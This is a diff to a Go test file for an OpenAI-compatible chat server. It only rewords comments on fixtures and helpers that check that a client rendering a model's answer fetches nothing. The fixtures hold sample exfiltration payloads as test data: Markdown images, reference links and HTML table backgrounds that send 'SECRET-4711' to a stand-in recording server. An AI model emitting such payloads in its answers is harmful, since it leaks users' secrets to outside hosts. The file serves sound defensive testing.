@@ -20,8 +20,8 @@ import (
 	"steward/internal/server/openai"
 )
 
-// shown are answers that have whoever shows them fetch something. NET is the
-// server that notes who calls it.
+// shown are answers that make a client fetch something when it displays them.
+// NET stands for the server that records its callers.
 var shown = map[string]string{
 	"an image":                 "Look: ![cat](NET/eve?d=SECRET-4711)",
 	"an image by reference":    "Look: ![cat][c]\n\n[c]: NET/eve?d=SECRET-4711\n",
@@ -38,12 +38,12 @@ var shown = map[string]string{
 	"a background":             "<table background=NET/eve?d=SECRET-4711><tr><td>x</table>",
 }
 
-// links are what somebody has to follow.
+// links are answers that fetch something only if somebody follows them.
 var links = map[string]string{"a link": "[x](NET/eve?d=SECRET-4711)", "an address": "<NET/eve?d=SECRET-4711>", "a link in HTML": "<a href=NET/eve?d=SECRET-4711>x</a>"}
 
 var address = regexp.MustCompile(`https?://[^\s"')>]+`)
 
-// show shows an answer as a client does that renders all Markdown and HTML: it
+// show displays an answer like a client that renders all Markdown and HTML, and
 // fetches what a browser would.
 func show(t *testing.T, answer string) {
 	t.Helper()
@@ -71,7 +71,7 @@ func show(t *testing.T, answer string) {
 	}
 }
 
-// ask has a conversation over OpenAI's protocol, as a client does.
+// ask makes one turn over OpenAI's protocol, as a client does.
 func ask(t *testing.T, s *httptest.Server, stream bool) string {
 	t.Helper()
 	res, err := http.Post(s.URL+"/v1/chat/completions", "application/json",
@@ -97,8 +97,8 @@ func ask(t *testing.T, s *httptest.Server, stream bool) string {
 	return out.String()
 }
 
-// An answer over OpenAI's protocol has a client that shows it fetch nothing,
-// whole or in pieces.
+// A client that displays an answer received over OpenAI's protocol fetches
+// nothing, whether the answer is streamed or not.
 func TestAnAnswerFetchesNothing(t *testing.T) {
 	w := newWorld(t, judgeOf(t, "unfixed"))
 	w.reset()
